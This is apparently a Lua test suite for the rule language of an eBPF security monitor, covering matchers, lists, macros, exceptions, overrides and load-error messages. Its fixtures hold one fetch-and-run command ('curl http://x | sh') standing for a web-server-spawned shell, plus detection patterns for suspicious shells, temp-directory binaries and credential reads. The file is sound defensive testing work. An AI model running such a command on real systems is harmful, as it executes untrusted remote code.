-- The rule language (lua/ebpf_guard/lang.lua, config.lua): matchers on
-- every kind of field, lists, macros, exceptions, overrides, and the exact
-- load-time error of each mistake.
local H = require("helpers.engine")

local files = {}
local function yaml(text)
  local p = H.tmpfile(".yaml", text)
  files[#files + 1] = p
  return p
end

-- "<event>:<id>" of every alert, built-ins left out unless asked for.
local function fire(paths, events, with_builtins)
  if type(paths) == "string" then paths = { yaml(paths) } end
  local out = {}
  for _, f in ipairs(H.fire(paths, events)) do
    if with_builtins or not f:find(":builtin_", 1, true) then out[#out + 1] = f end
  end
  return out
end

-- One rule over one event type with a match: which events fire.
local function matches(etype, match, events)
  local text = ("rules:\n  - id: r\n    description: d\n    event_types: [%s]\n    match:\n"):format(etype)
  for line in match:gmatch("[^\n]+") do text = text .. "      " .. line .. "\n" end
  local out = {}
  for _, f in ipairs(fire(text, events)) do out[#out + 1] = tonumber(f:match("^(%d+):")) end
  return out
end

-- The load error of a config text (with the temp file's name as "F").
local function load_error(text, more)
  local p = yaml(text)
  local paths = { p }
  for _, m in ipairs(more or {}) do paths[#paths + 1] = m end
  local eng, err = H.new(paths)
  assert.is_nil(eng)
  return (err:gsub(p:gsub("%p", "%%%0"), "F"))
end

local function rule_error(etype, match)
  local text = ("rules:\n  - id: r\n    description: d\n    event_types: [%s]\n    match:\n"):format(etype)
  for line in match:gmatch("[^\n]+") do text = text .. "      " .. line .. "\n" end
  return load_error(text)
end

teardown(function()
  for _, p in ipairs(files) do os.remove(p) end
end)

local function exec(t)
  t.type = "exec"
  t.filename = t.filename or t.exe or "/usr/bin/true"
  t.comm = t.comm or "true"
  return t
end

describe("match", function()
  describe("string matchers", function()
    local evs = {
      exec({ exe = "/usr/bin/bash" }), exec({ exe = "/tmp/x" }), exec({ exe = "/dev/shm/.y" }),
      exec({ exe = "/usr/lib/libfoo.so" }), exec({ exe = "" }),
    }
    it("a scalar is eq: the whole value", function()
      assert.same({ 1 }, matches("exec", "exe: /usr/bin/bash", evs))
      assert.same({ 1 }, matches("exec", "exe: {eq: /usr/bin/bash}", evs))
      assert.same({}, matches("exec", "exe: /usr/bin/bas", evs))
    end)
    it("a list is in: one of the values", function()
      assert.same({ 1, 2 }, matches("exec", "exe: [/usr/bin/bash, /tmp/x]", evs))
      assert.same({ 1, 2, 5 }, matches("exec", "exe: {in: [/usr/bin/bash, /tmp/x, '', /a, /b]}", evs))
    end)
    it("prefix, suffix and contains take one value or a list", function()
      assert.same({ 2, 3 }, matches("exec", "exe: {prefix: [/tmp/, /dev/shm/]}", evs))
      assert.same({ 4 }, matches("exec", "exe: {suffix: .so}", evs))
      assert.same({ 3, 4 }, matches("exec", "exe: {contains: [shm, libf]}", evs))
    end)
    it("regex is a PCRE2 search", function()
      assert.same({ 3 }, matches("exec", [[exe: {regex: '/\.[^/]*$'}]], evs))
      assert.same({ 1, 4 }, matches("exec", "exe: {regex: ['(?i)BASH', 'lib.*so']}", evs))
    end)
    it("not negates a matcher; several matchers must all hold", function()
      assert.same({ 1, 4, 5 }, matches("exec", "exe: {not: {prefix: [/tmp/, /dev/shm/]}}", evs))
      assert.same({ 4 }, matches("exec", "exe: {prefix: /usr/, not: {suffix: bash}}", evs))
    end)
    it("long lists use one PCRE2 alternation, with the same results", function()
      local list = {}
      for i = 1, 40 do list[i] = "/opt/p" .. i .. "/" end
      list[41] = "/tmp/"
      assert.same({ 2 }, matches("exec", "exe: {prefix: [" .. table.concat(list, ", ") .. "]}", evs))
      local suf = {}
      for i = 1, 40 do suf[i] = ".x" .. i end
      suf[41] = ".so"
      assert.same({ 4 }, matches("exec", "exe: {suffix: [" .. table.concat(suf, ", ") .. "]}", evs))
    end)
    it("in holds values sharing length, first and last byte apart", function()
      local e = { exec({ comm = "abc" }), exec({ comm = "axc" }), exec({ comm = "ayc" }), exec({ comm = "ab" }),
        exec({ comm = "" }) }
      assert.same({ 1, 3 }, matches("exec", "comm: [abc, ayc, azc]", e))
      assert.same({ 4, 5 }, matches("exec", "comm: [ab, '', zz]", e))
    end)
    it("special characters in prefixes are literal", function()
      local e = { exec({ exe = "/a.b(c)/x" }), exec({ exe = "/aXb(c)/x" }) }
      local list = {}
      for i = 1, 10 do list[i] = "/q" .. i end
      list[11] = "'/a.b(c)/'"
      assert.same({ 1 }, matches("exec", "exe: {prefix: [" .. table.concat(list, ", ") .. "]}", e))
    end)
    it("each regex of a list is matched on its own: backreferences, \\Q, (?x) comments, group names", function()
      local e = { exec({ comm = "aa" }), exec({ comm = "xa.y" }), exec({ comm = "ab" }), exec({ comm = "xy" }) }
      assert.same({ 1 }, matches("exec", [[comm: {regex: ['(x)z', '(a)\1']}]], e))
      assert.same({ 2 }, matches("exec", [[comm: {regex: ['\Qa.']}]], e))
      assert.same({ 3 }, matches("exec", [[comm: {regex: ['(?x) a b # a comment']}]], e))
      assert.same({ 3, 4 }, matches("exec", [[comm: {regex: ['(?<n>x)y', '(?<n>a)b']}]], e))
    end)
  end)

  describe("number, flags, enum and bool matchers", function()
    it("compare numbers", function()
      local e = {
        { type = "connect", dest_port = 22 }, { type = "connect", dest_port = 4444 },
        { type = "connect", dest_port = 65535 },
      }
      assert.same({ 2, 3 }, matches("connect", "dest_port: {ge: 1024}", e))
      assert.same({ 2 }, matches("connect", "dest_port: {gt: 1024, lt: 65535}", e))
      assert.same({ 1 }, matches("connect", "dest_port: {le: 22}", e))
      assert.same({ 1, 2 }, matches("connect", "dest_port: [22, 4444]", e))
      assert.same({ 2 }, matches("connect", "dest_port: 4444", e))
      assert.same({ 1, 3 }, matches("connect", "dest_port: {not: 4444}", e))
    end)
    it("test open flags by name, O_RDONLY as the access mode", function()
      local e = {
        { type = "open", filename = "/f", open_flags = 0 }, { type = "open", filename = "/f", open_flags = 1 },
        { type = "open", filename = "/f", open_flags = 0x241 }, { type = "open", filename = "/f", open_flags = 0x80000 },
      }
      assert.same({ 2, 3 }, matches("open", "open_flags: {any: [O_WRONLY, O_RDWR, O_TRUNC]}", e))
      assert.same({ 3 }, matches("open", "open_flags: {all: [O_WRONLY, O_CREAT, O_TRUNC]}", e))
      assert.same({ 1, 4 }, matches("open", "open_flags: {any: [O_RDONLY]}", e))
      assert.same({ 1 }, matches("open", "open_flags: {eq: 0}", e))
    end)
    it("test chmod mode bits by name or number", function()
      local e = { { type = "chmod", filename = "/f", mode = 2541 }, { type = "chmod", filename = "/f", mode = 493 } }
      assert.same({ 1 }, matches("chmod", "mode: {any: [setuid, setgid]}", e))
      assert.same({ 1 }, matches("chmod", "mode: {any: [04000]}", e))
      assert.same({ 1, 2 }, matches("chmod", "mode: {all: [owner_exec, other_read]}", e))
    end)
    it("test capability sets past 32 bits", function()
      local e = {
        { type = "setid", call = "capset", cap_effective = "sys_admin|bpf" },
        { type = "setid", call = "capset", cap_effective = "chown" },
      }
      assert.same({ 1 }, matches("setid", "cap_effective: {any: [bpf]}", e))
      assert.same({ 1 }, matches("setid", "cap_effective: {all: [sys_admin, bpf]}", e))
      assert.same({ 2 }, matches("setid", "cap_effective: {not: {any: [bpf, sys_admin]}}", e))
    end)
    it("match named values exactly or by string matchers on their names", function()
      local e = {
        { type = "setid", call = "setuid" }, { type = "setid", call = "setresuid" },
        { type = "setid", call = "setgid" }, { type = "setid", call = "capset" },
      }
      assert.same({ 1 }, matches("setid", "call: setuid", e))
      assert.same({ 1, 2 }, matches("setid", "call: {suffix: uid}", e))
      assert.same({ 2 }, matches("setid", "call: {regex: '^setres'}", e))
      assert.same({ 3, 4 }, matches("setid", "call: {not: {in: [setuid, setresuid]}}", e))
    end)
    it("test booleans", function()
      local e = { exec({ memfd = true }), exec({}) }
      assert.same({ 1 }, matches("exec", "memfd: true", e))
      assert.same({ 2 }, matches("exec", "memfd: false", e))
    end)
    it("test ret on the types that carry it", function()
      local e = { { type = "unlink", filename = "/f", ret = 0 }, { type = "unlink", filename = "/f", ret = -2 } }
      assert.same({ 1 }, matches("unlink", "ret: {ge: 0}", e))
    end)
    it("nest not and several matchers on numbers", function()
      local e = {
        { type = "connect", dest_port = 22 }, { type = "connect", dest_port = 4444 },
        { type = "connect", dest_port = 5000 },
      }
      assert.same({ 3 }, matches("connect", "dest_port: {ge: 1024, not: 4444}", e))
      assert.same({ 2 }, matches("connect", "dest_port: {not: {not: 4444}}", e))
      assert.same({ 1, 3 }, matches("connect", "dest_port: {not: {gt: 1024, lt: 5000}}", e))
    end)
    it("a zero mask: any of no bits never holds, all of them always", function()
      local c = { { type = "chmod", filename = "/f", mode = 2541 }, { type = "chmod", filename = "/f", mode = 0 } }
      assert.same({}, matches("chmod", "mode: {any: [0]}", c))
      assert.same({ 1, 2 }, matches("chmod", "mode: {all: 0}", c))
      assert.same({ 2 }, matches("chmod", "mode: {not: {any: [setuid, 0]}}", c))
      assert.same({}, matches("connect", "dest_port: {any: 0}", { { type = "connect", dest_port = 22 } }))
    end)
    it("a flag name of several bits is set when all of its bits are", function()
      -- O_TMPFILE is __O_TMPFILE | O_DIRECTORY, O_SYNC is __O_SYNC | O_DSYNC
      local e = {
        { type = "open", filename = "/d", open_flags = 0x10000 }, { type = "open", filename = "/t", open_flags = 0x410002 },
        { type = "open", filename = "/f", open_flags = 0x1001 }, { type = "open", filename = "/f", open_flags = 0x101001 },
      }
      assert.same({ 2 }, matches("open", "open_flags: {any: [O_TMPFILE]}", e))
      assert.same({ 4 }, matches("open", "open_flags: {any: [O_SYNC]}", e))
      assert.same({ 1, 2 }, matches("open", "open_flags: {any: [O_DIRECTORY]}", e))
      assert.same({ 2, 3, 4 }, matches("open", "open_flags: {any: [O_TMPFILE, O_DSYNC]}", e))
      assert.same({ 1, 4 }, matches("open", "open_flags: {any: [O_SYNC, O_RDONLY]}", e))
      assert.same({ 2 }, matches("open", "open_flags: {all: [O_TMPFILE]}", e))
    end)
  end)

  describe("process context fields", function()
    local e = {
      exec({ comm = "sh", parent = { comm = "nginx", exe = "/usr/sbin/nginx", args = { "nginx", "-g", "daemon off;" } },
        ancestors = { { comm = "nginx", exe = "/usr/sbin/nginx" }, { comm = "systemd", exe = "/usr/lib/systemd/systemd" } },
        args = { "sh", "-c", "id; curl http://x | sh" }, container_id = "0123456789ab", cwd = "/var/www",
        context = "exec", loginuid = -1 }),
      exec({ comm = "sh", parent = { comm = "bash" }, ancestors = { { comm = "bash", exe = "/usr/bin/bash" } },
        args = { "sh" }, context = "procfs", loginuid = 1000 }),
    }
    it("parent and ancestors (any known ancestor)", function()
      assert.same({ 1 }, matches("exec", "parent.comm: [nginx, httpd]", e))
      assert.same({ 1 }, matches("exec", "ancestors.exe: {suffix: /nginx}", e))
      assert.same({ 2 }, matches("exec", "ancestors.comm: {not: {in: [nginx]}}", e))
      assert.same({ 1 }, matches("exec", "parent.args: -g", e))
      assert.same({ 1 }, matches("exec", "parent.cmdline: {contains: 'daemon off'}", e))
    end)
    it("args (any argument) and cmdline (joined by spaces)", function()
      assert.same({ 1 }, matches("exec", "args: -c", e))
      assert.same({ 1 }, matches("exec", "cmdline: {contains: 'curl http'}", e))
      -- across two arguments: the space stands for the NUL between them
      assert.same({ 1 }, matches("exec", "cmdline: {contains: 'sh -c'}", e))
      assert.same({ 1 }, matches("exec", "parent.cmdline: {contains: 'nginx -g'}", e))
      assert.same({ 2 }, matches("exec", "cmdline: sh", e))
    end)
    it("container, cwd, context and loginuid", function()
      assert.same({ 1 }, matches("exec", "container_id: {not: ''}", e))
      assert.same({ 1 }, matches("exec", "cwd: {prefix: /var/www}", e))
      assert.same({ 2 }, matches("exec", "context: procfs", e))
      assert.same({ 2 }, matches("exec", "loginuid: {ge: 0}", e))
    end)
    it("unknown context is the empty string to every matcher", function()
      -- the first event has no process context: its parent.comm is unknown
      local u = { exec({ comm = "sh" }), exec({ comm = "sh", parent = { comm = "x" } }) }
      assert.same({ 1 }, matches("exec", "parent.comm: {regex: '^$'}", u))
      assert.same({ 1 }, matches("exec", "parent.comm: {regex: ['^$', zzz]}", u))
      local long = {}
      for i = 1, 10 do long[i] = "/p" .. i end
      long[11] = "''"
      assert.same({ 1, 2 }, matches("exec", "parent.comm: {prefix: [" .. table.concat(long, ", ") .. "]}", u))
      assert.same({ 1, 2 }, matches("exec", "parent.comm: {suffix: [" .. table.concat(long, ", ") .. "]}", u))
      assert.same({ 1 }, matches("exec", "parent.comm: {contains: ['', x], not: {contains: x}}", u))
      assert.same({ 1 }, matches("exec", "parent.comm: ['', a, b]", u))
    end)
  end)

  describe("same_as: one field against another of the same event", function()
    local u = {
      { type = "unlink", comm = "x", filename = "/tmp/x", exe = "/tmp/x", ret = 0 },
      { type = "unlink", comm = "x", filename = "/tmp/y", exe = "/tmp/x", ret = 0 },
      { type = "unlink", comm = "x", filename = "/tmp/x", exe = "/tmp/xx", ret = 0 },
      { type = "unlink", comm = "x", filename = "/tmp/xx", exe = "/tmp/x", ret = 0 },
      { type = "unlink", comm = "x", filename = "", exe = "", ret = 0 },
    }
    it("strings: equal bytes and length", function()
      assert.same({ 1, 5 }, matches("unlink", "filename: {same_as: exe}", u))
      assert.same({ 2, 3, 4 }, matches("unlink", "filename: {not: {same_as: exe}}", u))
      assert.same({ 1 }, matches("unlink", "filename: {prefix: /tmp/, same_as: exe}", u))
      -- the program's name (an unlink's is its comm) against a string field
      assert.same({ 1 }, matches("unlink", "name: {same_as: comm}\nfilename: {suffix: /x}", { u[1] }))
    end)
    it("numbers", function()
      local e = { exec({ uid = 5, gid = 5 }), exec({ uid = 5, gid = 6 }), exec({ uid = 0, gid = 0 }) }
      assert.same({ 1, 3 }, matches("exec", "uid: {same_as: gid}", e))
      assert.same({ 2 }, matches("exec", "gid: {not: {same_as: uid}}", e))
    end)
    it("names another field the types carry, of the same kind", function()
      assert.equals('F: rule "r": match: filename: same_as: unknown field "exx" (did you mean "exe"?)',
        rule_error("unlink", "filename: {same_as: exx}"))
      assert.equals('F: rule "r": match: filename: same_as: filename is a string field, uid a number field: same_as compares two fields of one kind',
        rule_error("unlink", "filename: {same_as: uid}"))
      assert.equals('F: rule "r": match: filename: same_as: not carried by unlink events (only by open)',
        rule_error("unlink", "filename: {same_as: requested}"))
      assert.equals('F: rule "r": match: filename: same_as: expected the name of another field, got a list',
        rule_error("unlink", "filename: {same_as: [exe]}"))
      assert.equals('F: rule "r": match: cmdline: same_as: not a matcher for cmdline (a command line: compare a single string or number)',
        rule_error("exec", "cmdline: {same_as: exe}"))
      assert.equals('F: rule "r": match: args: same_as: not a matcher for args (a list of strings takes eq, in, prefix, suffix, contains, regex, not)',
        rule_error("exec", "args: {same_as: exe}"))
    end)
  end)

  describe("the order of a rule's tests", function()
    it("runs in_container's container_id test before a path regex: empty on the host's events", function()
      local lang = require("ebpf_guard.lang")
      local E = { rx = function() return 0 end, const = function() return "K[1]" end,
        fn = function() return "MF[1]" end }
      local F = lang.FIELDS
      local ast = { op = "all", list = {
        { op = "field", field = F.filename, m = { op = "regex", values = { "release_agent$" } } },
        { op = "field", field = F.open_flags, m = { op = "not", node = { op = "any", mask = 0x243 } } },
        { op = "field", field = F.container_id, m = { op = "not", node = { op = "in", values = { "" } } } },
      } }
      local code = lang.emit(E, ast)
      local ct, flags, rx = code:find("CT.id_len", 1, true), code:find("e.open_flags", 1, true), code:find("MATCH", 1, true)
      assert.truthy(ct and flags and rx, code)
      assert.is_true(ct < flags and flags < rx, code)
      -- another string field's "not empty" passes most of the time: after the flags
      ast.list[3] = { op = "field", field = F.exe, m = { op = "not", node = { op = "in", values = { "" } } } }
      code = lang.emit(E, ast)
      assert.is_true(code:find("e.open_flags", 1, true) < code:find("e.exe_len", 1, true), code)
    end)
  end)

  describe("combinators", function()
    local e = { exec({ comm = "a" }), exec({ comm = "b" }), exec({ comm = "c" }) }
    it("any, all and not", function()
      assert.same({ 1, 2 }, matches("exec", "any:\n  - comm: a\n  - comm: b", e))
      assert.same({ 3 }, matches("exec", "not: {comm: [a, b]}", e))
      assert.same({ 2 }, matches("exec", "all:\n  - comm: {prefix: b}\n  - not: {comm: a}", e))
    end)
  end)
end)

describe("lists", function()
  local e = { exec({ comm = "bash" }), exec({ comm = "fish" }), exec({ comm = "$odd" }), exec({ comm = "vim" }) }
  it("are spliced into any matcher by $name, also inside other lists", function()
    assert.same({ "1:r", "2:r" }, fire([[
lists:
  shells: [bash, sh]
  all_shells: [$shells, fish]
rules:
  - {id: r, description: d, event_types: [exec], match: {comm: {in: [$all_shells]}}}
]], e))
  end)
  it("a scalar $name is the list; $$ escapes a literal $", function()
    assert.same({ "1:r", "3:r" }, fire([[
lists:
  shells: [bash, $$odd]
rules:
  - {id: r, description: d, event_types: [exec], match: {comm: $shells}}
]], e))
  end)
  it("are shared across files and extended by later files", function()
    local a = yaml([[
lists:
  shells: [bash]
rules:
  - {id: r, description: d, event_types: [exec], match: {comm: $shells}}
]])
    local b = yaml([[
overrides:
  - list: shells
    append: [vim]
]])
    assert.same({ "1:r", "4:r" }, fire({ a, b }, e))
    local c = yaml([[
overrides:
  - list: shells
    replace: [fish]
]])
    assert.same({ "2:r" }, fire({ a, c }, e))
  end)
  it("are the list of in: and of an exception's in", function()
    assert.same({ "1:r", "2:s", "3:s" }, fire([[
lists:
  shells: [bash, sh]
  editors: [vim]
rules:
  - {id: r, description: d, event_types: [exec], match: {comm: {in: $shells}}}
  - id: s
    description: d
    event_types: [exec]
    match: {comm: {not: {in: $shells}}}
    exceptions:
      - {name: e, fields: comm, comps: in, values: [$editors]}
]], e))
  end)
end)

describe("macros", function()
  local e = {
    exec({ comm = "sh", parent = { comm = "nginx" } }), exec({ comm = "sh", parent = { comm = "bash" } }),
    exec({ comm = "ls", parent = { comm = "nginx" } }),
  }
  it("name conditions that rules combine, nesting other macros", function()
    assert.same({ "1:r", "2:s" }, fire([[
macros:
  shell: {comm: [sh, bash]}
  web: {parent.comm: [nginx]}
  web_shell: {macro: [shell, web]}
rules:
  - {id: r, description: d, event_types: [exec], match: {macro: web_shell}}
  - {id: s, description: d, event_types: [exec], match: {macro: shell, not: {macro: web}}}
]], e))
  end)
  it("are replaced by a later file", function()
    local a = yaml([[
macros:
  web: {parent.comm: [nginx]}
rules:
  - {id: r, description: d, event_types: [exec], match: {macro: web}}
]])
    local b = yaml([[
overrides:
  - macro: web
    replace: {parent.comm: bash}
]])
    assert.same({ "2:r" }, fire({ a, b }, e))
  end)
end)

describe("exceptions", function()
  local e = {
    exec({ comm = "rsync", exe = "/usr/bin/rsync", filename = "/tmp/a" }),
    exec({ comm = "borg", exe = "/usr/bin/borg", filename = "/tmp/a" }),
    exec({ comm = "cp", exe = "/usr/bin/cp", filename = "/tmp/a" }),
  }
  local base = [[
rules:
  - id: r
    description: d
    event_types: [exec]
    match: {filename: {prefix: /tmp/}}
    exceptions:
      - name: backups
        fields: [comm, exe]
        values:
          - [rsync, /usr/bin/rsync]
]]
  it("stop a rule on the listed field values", function()
    assert.same({ "2:r", "3:r" }, fire(base, e))
  end)
  it("take comps per field and list values", function()
    assert.same({ "3:r" }, fire([[
rules:
  - id: r
    description: d
    event_types: [exec]
    match: {filename: {prefix: /tmp/}}
    exceptions:
      - name: tools
        fields: [comm, exe]
        comps: [in, prefix]
        values:
          - [[rsync, borg], /usr/bin/]
]], e))
  end)
  it("a later file appends values to a named exception, or adds one", function()
    local a = yaml(base)
    local b = yaml([[
overrides:
  - rule: r
    append:
      exceptions:
        - name: backups
          fields: [comm, exe]
          values:
            - [borg, /usr/bin/borg]
        - name: copies
          fields: comm
          values: [cp]
]])
    assert.same({}, fire({ a, b }, e))
  end)
  it("apply to Lua detections, before their code runs", function()
    local det = H.tmpfile(".lua", [==[
return { id = "d", description = "d", event_types = { "exec" },
  match = function(ev) return ev.comm ~= "" end }
]==])
    files[#files + 1] = det
    local b = yaml([[
overrides:
  - rule: d
    append:
      exceptions:
        - name: quiet
          fields: comm
          values: [rsync]
]])
    assert.same({ "2:d", "3:d" }, fire({ det, b }, e))
  end)
  it("apply to built-ins", function()
    local a = yaml([[
overrides:
  - rule: builtin_suspicious_shell
    append:
      exceptions:
        - name: build
          fields: parent.comm
          values: [make]
]])
    local ev = { exec({ comm = "sh", parent = { comm = "make" } }), exec({ comm = "sh", parent = { comm = "sshd" } }) }
    assert.same({ "2:builtin_suspicious_shell" }, fire({ a }, ev, true))
  end)
end)

describe("overrides", function()
  local function rule_of(eng, id)
    for _, r in ipairs(eng.rules) do if r.id == id then return r end end
  end
  it("change a stock rule's severity, tags and description, and a built-in's", function()
    local a = yaml("rules:\n  - {id: r, description: d, event_types: [exec], severity: error, tags: [A]}\n")
    local b = yaml([[
overrides:
  - rule: r
    replace: {severity: notice, description: new}
    append: {tags: [B, A]}
  - rule: builtin_suspicious_shell
    replace: {severity: info, tags: [X]}
]])
    local eng = assert(H.new({ a, b }))
    local r = rule_of(eng, "r")
    assert.same({ "notice", "new", '["A","B"]' }, { r.severity, r.description, r.tags_json })
    local s = rule_of(eng, "builtin_suspicious_shell")
    assert.same({ "info", '["X"]' }, { s.severity, s.tags_json })
  end)
  it("reach the rule that replaced a built-in, whichever file disabled it", function()
    local a = yaml("rules:\n  - {id: builtin_crypto_port, description: mine, event_types: [connect], severity: error}\n")
    local b = yaml("disable_builtins: [builtin_crypto_port]\n")
    local c = yaml("overrides:\n  - rule: builtin_crypto_port\n    replace: {severity: notice}\n")
    local eng = assert(H.new({ a, b, c }))
    local r = rule_of(eng, "builtin_crypto_port")
    assert.same({ "mine", "notice" }, { r.description, r.severity })
  end)
  it("disable and enable rules, built-ins included", function()
    local a = yaml("rules:\n  - {id: r, description: d, event_types: [exec], enabled: false}\n")
    local b = yaml([[
overrides:
  - rule: r
    replace: {enabled: true}
  - rule: builtin_suspicious_shell
    replace: {enabled: false}
]])
    local ev = { exec({ comm = "bash" }) }
    assert.same({ "1:builtin_suspicious_shell" }, fire({ a }, ev, true))
    assert.same({ "1:r" }, fire({ a, b }, ev, true))
    local eng = assert(H.new({ a, b }))
    assert.is_nil(rule_of(eng, "builtin_suspicious_shell"))
  end)
end)

describe("load errors", function()
  it("an unknown field, with a suggestion", function()
    assert.equals('F: rule "r": match: comn: unknown field "comn" (did you mean "comm"?)',
      rule_error("exec", "comn: bash"))
    assert.equals('F: rule "r": match: result: unknown field "result" (did you mean "ret"?)',
      rule_error("open", "result: {ge: 0}"))
    assert.equals('F: rule "r": match: proc.name: unknown field "proc.name" (did you mean "comm"?)',
      rule_error("exec", "proc.name: bash"))
    assert.equals('F: rule "r": match: zzzzzz: unknown field "zzzzzz" (docs/rules.md lists the fields)',
      rule_error("exec", "zzzzzz: bash"))
  end)
  it("a field the rule's event types do not carry", function()
    assert.equals('F: rule "r": match: dest_port: not carried by exec events (only by connect, dup, accept)',
      rule_error("exec", "dest_port: 22"))
  end)
  it("an unknown matcher, or one that does not fit the field", function()
    assert.equals('F: rule "r": match: exe: unknown matcher "prefx" (did you mean "prefix"?)',
      rule_error("exec", "exe: {prefx: /tmp/}"))
    assert.equals('F: rule "r": match: dest_port: prefix: not a matcher for dest_port (a number field takes eq, in, lt, le, gt, ge, any, all, same_as, not)',
      rule_error("connect", "dest_port: {prefix: 44}"))
    assert.equals('F: rule "r": match: comm: unknown matcher "startswith" (did you mean "prefix"?)',
      rule_error("exec", "comm: {startswith: x}"))
  end)
  it("a value of the wrong type", function()
    assert.equals('F: rule "r": match: dest_port: ge: dest_port is a number field: expected an integer, got string "high"',
      rule_error("connect", "dest_port: {ge: high}"))
    assert.equals('F: rule "r": match: comm: comm is a string field: expected a string, got number 5',
      rule_error("exec", "comm: 5"))
    assert.equals('F: rule "r": match: memfd: memfd is a boolean field: expected true or false, got string "yes please"',
      rule_error("exec", "memfd: yes please"))
    assert.equals('F: rule "r": match: comm: eq: expected one string, got a list (use in: for a list)',
      rule_error("exec", "comm: {eq: [a, b]}"))
  end)
  it("an unknown flag or named value", function()
    assert.equals('F: rule "r": match: open_flags: any: unknown open_flags flag "O_WRONY" (did you mean "O_WRONLY"?)',
      rule_error("open", "open_flags: {any: [O_WRONY]}"))
    assert.equals('F: rule "r": match: call: unknown call "setuidd" (did you mean "setuid"?)',
      rule_error("setid", "call: setuidd"))
    assert.equals('F: rule "r": match: call: prefix: prefix "zz" matches no call name',
      rule_error("setid", "call: {prefix: zz}"))
    assert.equals('F: rule "r": match: sock_type: suffix: suffix "zz" matches no sock_type name (dccp, dgram, packet, raw, rdm, seqpacket, stream)',
      rule_error("listen", "sock_type: {suffix: zz}"))
  end)
  it("a bad regex", function()
    assert.equals('F: rule "r": match: exe: regex: invalid regex "(a": missing closing parenthesis at offset 2',
      rule_error("exec", "exe: {regex: '(a'}"))
  end)
  it("a list on a flags field (a list is in:, which flags do not take)", function()
    assert.equals('F: rule "r": match: open_flags: a list (in) is not a matcher for open_flags (a flags field takes any, all, eq, not)',
      rule_error("open", "open_flags: [O_WRONLY, O_RDWR]"))
  end)
  it("an unknown list or macro, a cycle, a duplicate", function()
    assert.equals('F: rule "r": match: comm[1]: unknown list "shels" (did you mean "shells"?)',
      load_error("lists: {shells: [sh]}\nrules:\n  - {id: r, description: d, event_types: [exec], match: {comm: [$shels]}}\n"))
    assert.equals('F: rule "r": match: macro: unknown macro "shel" (did you mean "shell"?)',
      load_error("macros: {shell: {comm: sh}}\nrules:\n  - {id: r, description: d, event_types: [exec], match: {macro: shel}}\n"))
    assert.equals('F: macro "a": macro "b": macro: macro cycle: a -> b -> a',
      load_error("macros:\n  a: {macro: b}\n  b: {macro: a}\n"):match("^[^\n]*"))
    assert.equals('F: list "a": list cycle: a -> b -> a',
      load_error("lists:\n  a: [$b]\n  b: [$a]\n"):match("^[^\n]*"))
  end)
  it("a list of the wrong shape, in a definition or an override", function()
    assert.equals('F: list "a": expected a list of values, got string "x"',
      load_error("lists: {a: x}\n"))
    assert.equals('F: list "a": [2]: expected a string or a number, got a mapping',
      load_error("lists: {a: [x, {y: 1}]}\n"))
    assert.equals('F: override of list "a": append[1]: expected a string or a number, got a list',
      load_error("lists: {a: [x]}\noverrides:\n  - list: a\n    append: [[1]]\n"))
  end)
  it("a list defined twice, a macro appended to", function()
    local base = yaml("lists: {a: [x]}\nmacros: {m: {comm: x}}\n")
    local dup = yaml("lists: {a: [y]}\n")
    local _, derr = H.new({ base, dup })
    assert.equals(dup .. ': list "a": duplicate list "a" (first defined in ' .. base .. ')', derr)
    local p = yaml("overrides:\n  - macro: m\n    append: {comm: y}\n")
    local _, err = H.new({ base, p })
    assert.equals(p .. ": override of macro \"m\": append: a macro cannot be appended to: replace it (its new condition can use the old one's fields)", err)
  end)
  it("a macro's field the rule's types do not carry names the macro", function()
    assert.equals('F: rule "r": macro "m": dest_port: not carried by exec events (only by connect, dup, accept)',
      load_error("macros: {m: {dest_port: 22}}\nrules:\n  - {id: r, description: d, event_types: [exec], match: {macro: m}}\n"))
  end)
  it("an override of a rule, list or macro that does not exist, naming the file and id", function()
    assert.equals('F: override of rule "credential_file_red": rule: no rule "credential_file_red" to override (did you mean "credential_file_read"?)',
      load_error("rules:\n  - {id: credential_file_read, description: d, event_types: [open]}\noverrides:\n  - rule: credential_file_red\n    replace: {severity: info}\n"))
    assert.equals('F: override of list "nope": list: no list "nope" to override',
      load_error("overrides:\n  - list: nope\n    append: [x]\n"))
    assert.equals('F: override #1: nothing to change: give append or replace',
      load_error("overrides:\n  - rule: builtin_crypto_port\n"))
    assert.equals('F: override of rule "r": replace: colour: unknown key (expected one of severity, enabled, tags, description, exceptions, action, params)',
      load_error("rules:\n  - {id: r, description: d, event_types: [exec]}\noverrides:\n  - rule: r\n    replace: {colour: red}\n"))
  end)
  it("an exception's values of the wrong shape", function()
    assert.equals('F: rule "r": exceptions[1] "e": values[1]: expected a list of 2 values (one per field: comm, exe), got string "x"',
      load_error("rules:\n  - id: r\n    description: d\n    event_types: [exec]\n    exceptions:\n      - {name: e, fields: [comm, exe], values: [x]}\n"))
    assert.equals('F: rule "r": exceptions "e": values[1]: dest_port: not carried by exec events (only by connect, dup, accept)',
      load_error("rules:\n  - id: r\n    description: d\n    event_types: [exec]\n    exceptions:\n      - {name: e, fields: dest_port, values: [22]}\n"))
  end)
  it("lists every problem of every rule, not only the first", function()
    local err = load_error([[
rules:
  - {id: a, description: d, event_types: [exec], match: {comn: x}}
  - {id: b, description: d, event_types: [exec], match: {exe: {prefx: x}}}
  - {id: c, description: d, event_types: [exec]}
]])
    assert.equals('F: rule "a": match: comn: unknown field "comn" (did you mean "comm"?)\n'
      .. 'F: rule "b": match: exe: unknown matcher "prefx" (did you mean "prefix"?)', err)
  end)
end)

-- A string set's key (length and three bytes) is taken at the positions
-- that separate its strings: one table lookup for a miss, not one per
-- group of strings sharing a key.
describe("string sets", function()
  local lang = require("ebpf_guard.lang")
  local SHELLS = { "/bin/sh", "/usr/bin/sh", "/bin/bash", "/usr/bin/bash", "/bin/dash", "/usr/bin/dash",
    "/bin/zsh", "/usr/bin/zsh", "/bin/ksh", "/usr/bin/ksh", "/bin/mksh", "/usr/bin/mksh", "/bin/rbash",
    "/usr/bin/rbash", "/bin/tcsh", "/usr/bin/tcsh", "/bin/csh", "/usr/bin/csh" }
  local function worst(pos)
    local seen, most = {}, 0
    for _, v in ipairs(SHELLS) do
      local k = lang.set_key(v, pos)
      seen[k] = (seen[k] or 0) + 1
      if seen[k] > most then most = seen[k] end
    end
    return most
  end

  it("picks positions with one string per key where the default ones collide", function()
    assert.is_true(worst(nil) > 1)
    assert.equals(1, worst(lang.set_positions(SHELLS, 7)))
  end)
end)
